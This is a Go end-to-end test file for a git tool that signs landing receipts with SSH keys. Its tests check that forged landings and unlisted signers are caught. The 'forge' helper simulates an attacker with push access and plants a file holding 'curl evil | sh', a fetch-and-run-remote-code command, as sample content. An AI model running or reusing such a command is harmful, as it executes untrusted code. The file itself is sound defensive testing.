package main_test

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlockdev/airlock/internal/landing"
	"github.com/airlockdev/airlock/internal/receipt"
	"github.com/airlockdev/airlock/internal/testbin"
)

// These scenarios sign receipts with the key git signs with (gpg.format=ssh
// and user.signingkey), check them against allowed signers files, and
// forge landings as anyone with push access could: a rewritten commit
// whose moved note names it, its digest recomputed. ssh-keygen is the
// oracle of every signature.

const receiptNamespace = "airlock-receipt"

// sshKey is a key pair ssh-keygen made, and the allowed signers line
// that names it for principal.
type sshKey struct {
	private, public, line string
}

func newSSHKey(t *testing.T, principal string) sshKey {
	t.Helper()
	testbin.Require(t, "ssh-keygen", "receipts are signed and checked with ssh-keygen -Y, as git does for gpg.format=ssh")
	dir := testbin.RealDir(t)
	priv := filepath.Join(dir, "id_ed25519")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", principal, "-f", priv).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v\n%s", err, out)
	}
	pub := strings.TrimSpace(testbin.ReadFile(t, priv+".pub"))
	f := strings.Fields(pub)
	return sshKey{private: priv, public: priv + ".pub", line: principal + " " + f[0] + " " + f[1] + "\n"}
}

// allowedSigners writes an allowed signers file listing keys.
func allowedSigners(t *testing.T, keys ...sshKey) string {
	t.Helper()
	path := filepath.Join(testbin.RealDir(t), "allowed_signers")
	var b strings.Builder
	for _, k := range keys {
		b.WriteString(k.line)
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// fingerprint is the key's SHA256 fingerprint as ssh-keygen prints it.
func (k sshKey) fingerprint(t *testing.T) string {
	t.Helper()
	out, err := exec.Command("ssh-keygen", "-l", "-f", k.public).Output()
	if err != nil {
		t.Fatalf("ssh-keygen -l: %v", err)
	}
	return strings.Fields(string(out))[1]
}

// signWith configures dir's repository to sign as git would sign commits.
func signWith(t *testing.T, dir, key string) {
	t.Helper()
	gitIn(t, dir, "config", "gpg.format", "ssh")
	gitIn(t, dir, "config", "user.signingkey", key)
}

// noteBytesOf is the receipt note of commit in the bare repository.
func noteBytesOf(t *testing.T, bare, commit string) []byte {
	t.Helper()
	return []byte(gitIn(t, bare, "notes", "--ref="+landing.NotesRef, "show", commit) + "\n")
}

// sshVerifies runs the oracle: ssh-keygen -Y verify of the receipt's
// signature over its signed bytes, for principal. It checks first that
// those bytes are what the receipt's digest hashes.
func sshVerifies(t *testing.T, data []byte, signers, principal string) error {
	t.Helper()
	var rc struct {
		Digest    string `json:"digest"`
		Signature string `json:"signature"`
	}
	if err := json.Unmarshal(data, &rc); err != nil {
		t.Fatalf("the receipt is not JSON: %v\n%s", err, data)
	}
	if !strings.HasPrefix(rc.Signature, "-----BEGIN SSH SIGNATURE-----\n") {
		t.Fatalf("the receipt carries no armored SSH signature:\n%s", data)
	}
	signed, err := receipt.SignedBytes(data)
	if err != nil {
		t.Fatalf("receipt.SignedBytes: %v", err)
	}
	if sum := sha256.Sum256(signed); "sha256:"+hex.EncodeToString(sum[:]) != rc.Digest {
		t.Fatalf("the signed bytes are not the bytes the digest %s hashes", rc.Digest)
	}
	sig := filepath.Join(testbin.RealDir(t), "receipt.sig")
	if err := os.WriteFile(sig, []byte(rc.Signature), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("ssh-keygen", "-Y", "verify", "-f", signers, "-I", principal, "-n", receiptNamespace, "-s", sig)
	cmd.Stdin = strings.NewReader(string(signed))
	if out, err := cmd.CombinedOutput(); err != nil {
		return &exec.ExitError{ProcessState: cmd.ProcessState, Stderr: out}
	}
	return nil
}

// forge does what anyone with push access can: rewrite the landed commit
// (same parent, message and trailer, other content), move its note onto
// the new commit with landed_commit changed and the digest recomputed,
// and force-push both refs. With digests set, the forger recomputes the
// receipt's base and result digests and its counts from the new tree too
// (the formulas are public); the signature, if any, is carried over as it was: only the
// key's owner can make a new one.
func forge(t *testing.T, url, commit string, digests bool) string {
	t.Helper()
	work := testbin.RealDir(t)
	gitIn(t, work, "clone", "-q", url, "w")
	w := filepath.Join(work, "w")
	gitIn(t, w, "fetch", "-q", "origin", landing.NotesRef+":"+landing.NotesRef)
	gitIn(t, w, "checkout", "-q", commit)
	testbin.WriteFiles(t, w, map[string]string{"a.txt": "forged content\n", "backdoor.sh": "curl evil | sh\n"})
	gitIn(t, w, "add", "-A")
	msg := gitIn(t, w, "log", "-1", "--format=%B", commit)
	tree := gitIn(t, w, "write-tree")
	forged := gitIn(t, w, "commit-tree", tree, "-p", commit+"^", "-m", msg)

	data := noteBytesOf(t, w, commit)
	rc, err := receipt.Verify(data)
	if err != nil {
		t.Fatalf("the genuine note does not verify: %v", err)
	}
	rc.LandedCommit = forged
	if digests {
		var paths []string
		var before, after []landing.TreeEntry
		rc.Added, rc.Modified, rc.Deleted = 0, 0, 0
		for _, rec := range strings.Split(strings.TrimSpace(gitIn(t, w, "diff-tree", "-r", "--no-renames", commit+"^", forged)), "\n") {
			meta, path, _ := strings.Cut(rec, "\t")
			f := strings.Fields(strings.TrimPrefix(meta, ":"))
			entry := func(mode, oid string) landing.TreeEntry {
				if strings.Trim(mode, "0") == "" {
					return landing.TreeEntry{}
				}
				return landing.TreeEntry{Mode: mode, OID: oid}
			}
			paths, before, after = append(paths, path), append(before, entry(f[0], f[2])), append(after, entry(f[1], f[3]))
			switch f[4] {
			case "A":
				rc.Added++
			case "D":
				rc.Deleted++
			default:
				rc.Modified++
			}
		}
		rc.BaseDigest, rc.ResultDigest = landing.EntriesGitDigest(paths, before), landing.EntriesGitDigest(paths, after)
	}
	sig := rc.Signature
	var sign receipt.SignFunc
	if sig != "" {
		sign = func([]byte) (string, error) { return sig, nil }
	}
	forgedNote, err := rc.SealSigned(sign)
	if err != nil {
		t.Fatalf("reseal the forged receipt: %v", err)
	}
	note := filepath.Join(work, "note.json")
	if err := os.WriteFile(note, forgedNote, 0o600); err != nil {
		t.Fatal(err)
	}
	gitIn(t, w, "notes", "--ref="+landing.NotesRef, "remove", commit)
	gitIn(t, w, "notes", "--ref="+landing.NotesRef, "add", "-F", note, forged)
	gitIn(t, w, "push", "-q", "-f", "origin", forged+":refs/heads/main", landing.NotesRef+":"+landing.NotesRef)
	return forged
}

// landOne opens a transaction on hst writing files and lands it into main.
func landOne(t *testing.T, hst *remoteHost, files map[string]string, env ...string) (string, string) {
	t.Helper()
	id := hst.open(files)
	if r := hst.run(env, "land", "-q", "--remote", "origin", "--branch", "main", id); r.Code != 0 {
		t.Fatalf("land %s: %s", id, r)
	}
	return id, gitIn(t, hst.clone, "ls-remote", "origin", "refs/heads/main")[:40]
}

// TestE2ERemoteForgedUnsignedLandingIsCaught: the forgery of issue 22 on
// unsigned receipts. Before, the rewritten commit verified; now its tree
// does not hash to its receipt's digests, and the check names it.
func TestE2ERemoteForgedUnsignedLandingIsCaught(t *testing.T) {
	srv := startDaemon(t)
	srv.seed(t, "f.git", map[string]string{"a.txt": "a\n"})
	hst := newRemoteHost(t, srv.url("f.git"))
	landOne(t, hst, map[string]string{"b.txt": "b\n"})
	id, commit := landOne(t, hst, map[string]string{"a.txt": "changed\n"})
	for _, args := range [][]string{{"receipt", "verify", "--remote", "origin", "--branch", "main"}, {"log"}} {
		r := hst.run(nil, append(args, "--allowed-signers", "/no/such/allowed_signers")...)
		if r.Code != 125 || !strings.Contains(r.Stderr, "--allowed-signers /no/such/allowed_signers") {
			t.Errorf("%q with an --allowed-signers that is not there: want exit 125 naming the flag and path\n%s", args, r)
		}
	}
	r := hst.run(nil, "receipt", "verify", "--remote", "origin", "--branch", "main")
	if r.Code != 0 || !strings.Contains(r.Stdout, "unsigned "+commit+" tx="+id) || !strings.Contains(r.Stdout, " unsigned=2") {
		t.Fatalf("the genuine unsigned chain: want ok, saying each receipt is unsigned\n%s", r)
	}
	forged := forge(t, srv.url("f.git"), commit, false)
	for _, args := range [][]string{
		{"receipt", "verify", "--remote", "origin", "--branch", "main"},
		{"log", "--remote", "origin", "--branch", "main"},
	} {
		// A broken chain: receipt verify exits 1, log 125 (docs/reference.md).
		r = hst.run(nil, args...)
		if r.Code == 0 || (args[0] == "receipt" && r.Code != 1) || !strings.Contains(r.Stderr, forged) || !strings.Contains(r.Stderr, "does not match its receipt's change set") {
			t.Errorf("%q of a forged landing: want exit 1 naming commit %s and its tree\n%s", args, forged, r)
		}
	}
}

// TestE2ERemoteSignedReceipts: a landing with gpg.format=ssh and a key
// file signs its receipt in git's SSHSIG format, which ssh-keygen accepts
// for the signer; verify checks it against --allowed-signers or
// gpg.ssh.allowedSignersFile, and refuses an unlisted key, naming it. A
// forged landing fails: with the digests left, on its tree; with them
// recomputed, on the signature it carried over.
func TestE2ERemoteSignedReceipts(t *testing.T) {
	alice, mallory := newSSHKey(t, "alice@example.com"), newSSHKey(t, "mallory@example.com")
	signers := allowedSigners(t, alice)
	srv := startDaemon(t)
	srv.seed(t, "s.git", map[string]string{"a.txt": "a\n"})
	bare := filepath.Join(srv.root, "s.git")
	hst := newRemoteHost(t, srv.url("s.git"))
	signWith(t, hst.clone, alice.private)
	id1, c1 := landOne(t, hst, map[string]string{"b.txt": "b\n"})
	id2, c2 := landOne(t, hst, map[string]string{"a.txt": "changed\n"})
	for _, c := range []string{c1, c2} {
		if err := sshVerifies(t, noteBytesOf(t, bare, c), signers, "alice@example.com"); err != nil {
			t.Fatalf("ssh-keygen -Y verify does not accept the receipt of %s: %v\n%s", c, err, err.(*exec.ExitError).Stderr)
		}
	}
	if err := sshVerifies(t, noteBytesOf(t, bare, c2), allowedSigners(t, mallory), "mallory@example.com"); err == nil {
		t.Fatal("the oracle accepts alice's receipt as mallory's: the check proves nothing")
	}

	r := hst.run(nil, "receipt", "verify", "--remote", "origin", "--branch", "main", "--allowed-signers", signers)
	for _, want := range []string{" signed=2 unsigned=0", "signed " + c2 + " tx=" + id2 + " by alice@example.com (key " + alice.fingerprint(t) + ")", "signed " + c1 + " tx=" + id1 + " by alice@example.com"} {
		if r.Code != 0 || !strings.Contains(r.Stdout, want) {
			t.Fatalf("verify --allowed-signers: want ok and %q\n%s", want, r)
		}
	}
	r = hst.run(nil, "receipt", "verify", "--remote", "origin", "--branch", "main")
	if r.Code != 1 || !strings.Contains(r.Stderr, "no allowed signers file") || !strings.Contains(r.Stderr, "--allowed-signers") {
		t.Errorf("verify of signed receipts with no allowed signers: want exit 1 saying what to give\n%s", r)
	}
	gitIn(t, hst.clone, "config", "gpg.ssh.allowedSignersFile", signers)
	if r = hst.run(nil, "log", "--remote", "origin", "--branch", "main"); r.Code != 0 || strings.Count(r.Stdout, "signed by alice@example.com") != 2 {
		t.Errorf("log --remote with gpg.ssh.allowedSignersFile: want both landings signed by alice\n%s", r)
	}
	r = hst.run(nil, "receipt", "verify", "--remote", "origin", "--branch", "main", "--allowed-signers", allowedSigners(t, mallory))
	if r.Code != 1 || !strings.Contains(r.Stderr, alice.fingerprint(t)) || !strings.Contains(r.Stderr, "not listed") || !strings.Contains(r.Stderr, c2) {
		t.Errorf("verify against signers without alice's key: want exit 1 naming her key and the commit\n%s", r)
	}

	forged := forge(t, srv.url("s.git"), c2, false)
	r = hst.run(nil, "receipt", "verify", "--remote", "origin", "--branch", "main")
	if r.Code != 1 || !strings.Contains(r.Stderr, forged) || !strings.Contains(r.Stderr, "does not match its receipt's change set") {
		t.Errorf("a forged signed landing: want exit 1 naming %s and its tree\n%s", forged, r)
	}
	forged = forge(t, srv.url("s.git"), forged, true)
	r = hst.run(nil, "receipt", "verify", "--remote", "origin", "--branch", "main")
	if r.Code != 1 || !strings.Contains(r.Stderr, forged) || !strings.Contains(r.Stderr, "does not verify") {
		t.Errorf("a forged signed landing whose digests match its tree: want exit 1 naming %s and its signature\n%s", forged, r)
	}
}

// TestE2ERemoteUnsignedAfterSignedAndUnreceipted: a landing made without
// the key after signed ones verifies but is named, and so is a commit a
// person pushed between landings, which carries no receipt.
func TestE2ERemoteUnsignedAfterSignedAndUnreceipted(t *testing.T) {
	alice := newSSHKey(t, "alice@example.com")
	signers := allowedSigners(t, alice)
	srv := startDaemon(t)
	srv.seed(t, "u.git", map[string]string{"a.txt": "a\n"})
	hst := newRemoteHost(t, srv.url("u.git"))
	signWith(t, hst.clone, alice.private)
	landOne(t, hst, map[string]string{"b.txt": "b\n"})

	person := testbin.RealDir(t)
	gitIn(t, person, "clone", "-q", srv.url("u.git"), "p")
	p := filepath.Join(person, "p")
	testbin.WriteFiles(t, p, map[string]string{"human.txt": "by hand\n"})
	gitIn(t, p, "add", "-A")
	gitIn(t, p, "commit", "-q", "-m", "a person's own change")
	gitIn(t, p, "push", "-q", "origin", "main")
	human := gitIn(t, p, "rev-parse", "HEAD")

	gitIn(t, hst.clone, "config", "--unset", "user.signingkey")
	gitIn(t, hst.clone, "pull", "-q", "--ff-only")
	id, c := landOne(t, hst, map[string]string{"c.txt": "c\n"})
	r := hst.run(nil, "receipt", "verify", "--remote", "origin", "--branch", "main", "--allowed-signers", signers)
	for _, want := range []string{" signed=1 unsigned=1 unreceipted=1", "unsigned " + c + " tx=" + id + " (after signed receipts", "no-receipt " + human + " a person's own change"} {
		if r.Code != 0 || !strings.Contains(r.Stdout, want) {
			t.Errorf("verify: want ok and %q\n%s", want, r)
		}
	}
	r = hst.run(nil, "log", "--remote", "origin", "--branch", "main", "--allowed-signers", signers)
	if r.Code != 0 || !strings.Contains(r.Stdout, "no-receipt  "+human) || !strings.Contains(r.Stdout, c+"  +1 ~0 -0") {
		t.Errorf("log --remote: want the landings and the person's commit named\n%s", r)
	}
	r = hst.run(nil, "log", "--remote", "origin", "--branch", "main", "--allowed-signers", signers, "--json")
	var lg struct {
		Entries []struct {
			Commit string `json:"commit"`
			Signer string `json:"signer"`
		} `json:"entries"`
		Unreceipted []struct {
			Commit  string `json:"commit"`
			Subject string `json:"subject"`
		} `json:"unreceipted"`
	}
	if err := json.Unmarshal([]byte(r.Stdout), &lg); r.Code != 0 || err != nil || len(lg.Entries) != 2 || lg.Entries[0].Signer != "" ||
		!strings.HasPrefix(lg.Entries[1].Signer, "alice@example.com") || len(lg.Unreceipted) != 1 || lg.Unreceipted[0].Commit != human || lg.Unreceipted[0].Subject != "a person's own change" {
		t.Errorf("log --remote --json: want the unsigned landing, the signed one and the person's commit (%v)\n%s", err, r)
	}
}

// TestE2ERemoteSigningKeyThatCannotSign: a configured key that does not
// sign refuses the landing before the push, and the local commit before
// the base is touched: a receipt meant to be signed is never unsigned.
func TestE2ERemoteSigningKeyThatCannotSign(t *testing.T) {
	testbin.Require(t, "ssh-keygen", "receipts are signed with ssh-keygen -Y sign")
	srv := startDaemon(t)
	srv.seed(t, "k.git", map[string]string{"a.txt": "a\n"})
	hst := newRemoteHost(t, srv.url("k.git"))
	missing := filepath.Join(testbin.RealDir(t), "no_such_key")
	signWith(t, hst.clone, missing)
	before := gitIn(t, hst.clone, "ls-remote", "origin", "refs/heads/main")
	id := hst.open(map[string]string{"a.txt": "b\n"})
	r := hst.run([]string{"SSH_AUTH_SOCK="}, "land", "--remote", "origin", "--branch", "main", id)
	if r.Code == 0 || !strings.Contains(r.Stdout+r.Stderr, missing) {
		t.Errorf("landing with a key that cannot sign: want a failure naming the key\n%s", r)
	}
	if after := gitIn(t, hst.clone, "ls-remote", "origin", "refs/heads/main"); after != before {
		t.Errorf("the landing pushed though its receipt could not be signed: main %s → %s", before, after)
	}
	r = hst.run([]string{"SSH_AUTH_SOCK="}, "commit", id)
	if r.Code == 0 || !strings.Contains(r.Stderr, missing) || !strings.Contains(r.Stderr, "nothing was applied") {
		t.Errorf("commit with a key that cannot sign: want a failure naming the key, nothing applied\n%s", r)
	}
	if got := testbin.ReadFile(t, filepath.Join(hst.clone, "a.txt")); got != "a\n" {
		t.Errorf("the base changed though the receipt could not be signed: a.txt = %q", got)
	}
}

// TestE2ERemoteSignsThroughAgent: user.signingkey names a public key (a
// file, or a key:: literal) whose private half only ssh-agent holds, as
// for `git commit -S`.
func TestE2ERemoteSignsThroughAgent(t *testing.T) {
	testbin.Require(t, "ssh-agent", "a public signing key signs through ssh-agent")
	testbin.Require(t, "ssh-add", "the test loads the signing key into ssh-agent")
	alice := newSSHKey(t, "alice@example.com")
	signers := allowedSigners(t, alice)
	sock := filepath.Join(testbin.RealDir(t), "agent.sock")
	agent := exec.Command("ssh-agent", "-D", "-a", sock)
	out, err := agent.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := agent.Start(); err != nil {
		t.Fatalf("start ssh-agent: %v", err)
	}
	t.Cleanup(func() { agent.Process.Kill(); agent.Wait() })
	// ssh-agent -D prints SSH_AUTH_SOCK once it listens: the handshake.
	done := make(chan string, 1)
	go func() {
		line, _ := bufio.NewReader(out).ReadString('\n')
		done <- line
	}()
	select {
	case line := <-done:
		if !strings.HasPrefix(line, "SSH_AUTH_SOCK=") {
			t.Fatalf("ssh-agent said %q", line)
		}
	case <-time.After(time.Minute):
		t.Fatal("ssh-agent did not say it listens within a minute")
	}
	add := exec.Command("ssh-add", "-q", alice.private)
	add.Env = append(os.Environ(), "SSH_AUTH_SOCK="+sock)
	if o, err := add.CombinedOutput(); err != nil {
		t.Fatalf("ssh-add: %v\n%s", err, o)
	}
	// The private key leaves the disk: only the agent can sign now.
	if err := os.Remove(alice.private); err != nil {
		t.Fatal(err)
	}

	srv := startDaemon(t)
	srv.seed(t, "g.git", map[string]string{"a.txt": "a\n"})
	bare := filepath.Join(srv.root, "g.git")
	hst := newRemoteHost(t, srv.url("g.git"))
	env := []string{"SSH_AUTH_SOCK=" + sock}
	for i, key := range []string{alice.public, "key::" + strings.TrimSpace(alice.line[len("alice@example.com "):])} {
		signWith(t, hst.clone, key)
		_, c := landOne(t, hst, map[string]string{"f.txt": strings.Repeat("x", i+1) + "\n"}, env...)
		if err := sshVerifies(t, noteBytesOf(t, bare, c), signers, "alice@example.com"); err != nil {
			t.Errorf("signing key %q: ssh-keygen does not accept the receipt: %v", key, err)
		}
		gitIn(t, hst.clone, "pull", "-q", "--ff-only")
	}
	r := hst.run(env, "receipt", "verify", "--remote", "origin", "--branch", "main", "--allowed-signers", signers)
	if r.Code != 0 || !strings.Contains(r.Stdout, " signed=2 unsigned=0") {
		t.Errorf("verify of the receipts signed through the agent\n%s", r)
	}
}

// TestE2ELocalReceiptsSigned: with a key in the base's git config, a
// local commit's receipt is signed; `receipt verify ID` and `log` check it
// against the allowed signers, and name an unlisted signer.
func TestE2ELocalReceiptsSigned(t *testing.T) {
	alice, mallory := newSSHKey(t, "alice@example.com"), newSSHKey(t, "mallory@example.com")
	signers := allowedSigners(t, alice)
	x := newH(t)
	gitIn(t, x.base, "init", "-q", "-b", "main")
	testbin.WriteFiles(t, x.base, map[string]string{"a.txt": "a\n"})
	gitIn(t, x.base, "add", "-A")
	gitIn(t, x.base, "commit", "-q", "-m", "seed")
	signWith(t, x.base, alice.private)
	env := []string{"SSH_AUTH_SOCK="}
	open := x.airlockEnv(env, "open", "--workdir", x.base)
	if open.Code != 0 {
		t.Fatalf("open: %s", open)
	}
	lines := strings.Split(strings.TrimSpace(open.Stdout), "\n")
	id := lines[0]
	testbin.WriteFiles(t, lines[1], map[string]string{"a.txt": "b\n"})
	if r := x.airlockEnv(env, "commit", id); r.Code != 0 {
		t.Fatalf("commit: %s", r)
	}
	data := []byte(testbin.ReadFile(t, filepath.Join(x.state, "tx", id, "receipt.json")))
	if err := sshVerifies(t, data, signers, "alice@example.com"); err != nil {
		t.Fatalf("ssh-keygen does not accept the local receipt: %v", err)
	}
	r := x.airlockEnv(env, "receipt", "verify", id, "--allowed-signers", signers)
	if r.Code != 0 || !strings.Contains(r.Stdout, "signed by alice@example.com (key "+alice.fingerprint(t)+")") {
		t.Errorf("receipt verify ID --allowed-signers: want ok, signed by alice\n%s", r)
	}
	r = x.airlockEnv(env, "receipt", "verify", id, "--json", "--allowed-signers", signers)
	var v struct {
		Valid  bool   `json:"valid"`
		Signer string `json:"signer"`
	}
	if err := json.Unmarshal([]byte(r.Stdout), &v); r.Code != 0 || err != nil || !v.Valid || !strings.HasPrefix(v.Signer, "alice@example.com (key SHA256:") {
		t.Errorf("receipt verify ID --json: want valid, signer alice (%v)\n%s", err, r)
	}
	r = x.airlockEnv(env, "receipt", "verify", id, "--allowed-signers", allowedSigners(t, mallory))
	if r.Code != 1 || !strings.Contains(r.Stderr, alice.fingerprint(t)) || !strings.Contains(r.Stderr, "not listed") {
		t.Errorf("receipt verify ID against other signers: want exit 1 naming alice's key\n%s", r)
	}
	gitIn(t, x.base, "config", "gpg.ssh.allowedSignersFile", signers)
	r = x.airlockEnv(env, "log", "--workdir", x.base)
	if r.Code != 0 || !strings.Contains(r.Stdout, id) || !strings.Contains(r.Stdout, "(signed by alice@example.com") {
		t.Errorf("log with gpg.ssh.allowedSignersFile: want the commit signed by alice\n%s", r)
	}
	r = x.airlockEnv(env, "log", "--workdir", x.base, "--allowed-signers", allowedSigners(t, mallory))
	if r.Code == 0 || !strings.Contains(r.Stderr, alice.fingerprint(t)) || !strings.Contains(r.Stderr, "not listed") {
		t.Errorf("log against other signers: want exit 1 naming alice's key\n%s", r)
	}
}

// TestE2EGpgSSHProgramSigns: gpg.ssh.program names the program that signs
// and checks, as for git.
func TestE2EGpgSSHProgramSigns(t *testing.T) {
	alice := newSSHKey(t, "alice@example.com")
	signers := allowedSigners(t, alice)
	x := newH(t)
	gitIn(t, x.base, "init", "-q", "-b", "main")
	testbin.WriteFiles(t, x.base, map[string]string{"a.txt": "a\n"})
	gitIn(t, x.base, "add", "-A")
	gitIn(t, x.base, "commit", "-q", "-m", "seed")
	signWith(t, x.base, alice.private)
	calls := filepath.Join(testbin.RealDir(t), "calls")
	prog := filepath.Join(testbin.RealDir(t), "my-ssh-keygen")
	script := "#!/bin/sh\necho \"$1 $2\" >> '" + calls + "'\nexec ssh-keygen \"$@\"\n"
	if err := os.WriteFile(prog, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	gitIn(t, x.base, "config", "gpg.ssh.program", prog)
	env := []string{"SSH_AUTH_SOCK="}
	open := x.airlockEnv(env, "open", "--workdir", x.base)
	if open.Code != 0 {
		t.Fatalf("open: %s", open)
	}
	lines := strings.Split(strings.TrimSpace(open.Stdout), "\n")
	testbin.WriteFiles(t, lines[1], map[string]string{"a.txt": "b\n"})
	if r := x.airlockEnv(env, "commit", lines[0]); r.Code != 0 {
		t.Fatalf("commit: %s", r)
	}
	if r := x.airlockEnv(env, "receipt", "verify", lines[0], "--allowed-signers", signers); r.Code != 0 || !strings.Contains(r.Stdout, "signed by alice@example.com") {
		t.Fatalf("receipt verify: %s", r)
	}
	got := testbin.ReadFile(t, calls)
	for _, want := range []string{"-Y sign", "-Y find-principals", "-Y verify"} {
		if !strings.Contains(got, want) {
			t.Errorf("gpg.ssh.program was not run for %s; it ran:\n%s", want, got)
		}
	}
}
